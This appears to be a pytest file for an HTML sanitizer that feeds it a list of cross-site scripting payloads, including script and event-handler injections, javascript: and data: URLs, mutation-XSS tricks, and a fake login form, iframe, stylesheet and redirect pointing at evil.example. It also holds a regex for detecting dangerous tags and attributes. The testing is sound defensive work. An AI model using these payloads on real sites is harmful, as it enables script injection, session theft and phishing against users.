"""What an editor of formatted text wrote, and what somebody else put there instead."""

import re

import pytest

from streams.notes import safe_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)//>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x.swf'></object><embed src=x>",
    "<form action='https://evil.example'><input name=p><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</p>",
    "<p onclick=alert(1) class=MuiButton id=root>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p>unclosed <b <script>alert(1)//",
    "<video src=x onerror=alert(1)></video>",
]
DANGER = re.compile(
    r"<(script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|template|video)"
    r"|<[^>]*\s(on\w+|style|class|id)\s*="
    r"|(href|src)=\W*(javascript|data|vbscript):",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_runs_styles_or_frames_is_kept(html):
    assert not DANGER.search(safe_html(html))


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_twice_changes_nothing(html):
    once = safe_html(html)

    assert safe_html(once) == once


@pytest.mark.parametrize(
    "html",
    [
        "<h2>Before</h2><p>Check the <strong>sound</strong>, <em>then</em> <u>go</u>.</p>",
        "<ul><li><p>one</p></li></ul><ol><li>two</li></ol>",
        "<blockquote><p>said</p></blockquote><pre><code>x = 1</code></pre><hr><p>a<br>b</p>",
        '<p><s>old</s> <mark>new</mark></p><img src="https://example.org/a.png" alt="a">',
        "<p>a &lt; b &amp; c</p>",
        "",
    ],
)
def test_formatting_stays_as_it_is(html):
    assert safe_html(html) == html


def test_links_open_elsewhere_and_say_nothing_of_where_from():
    link = safe_html('<a href="https://example.org/?a=1&amp;b=2">x</a>')

    assert 'href="https://example.org/?a=1&amp;b=2"' in link
    assert 'rel="noopener noreferrer nofollow"' in link
    assert 'target="_blank"' in link


@pytest.mark.parametrize("tag", ["b", "B", "b/", "font\n", "code"])
def test_formats_that_nobody_closes_are_not_repeated_in_every_paragraph(tag):
    html = "<p>" + "".join(f"<{tag} x={number}>" for number in range(500)) + "<p>x" * 500

    assert len(safe_html(html)) < 50_000
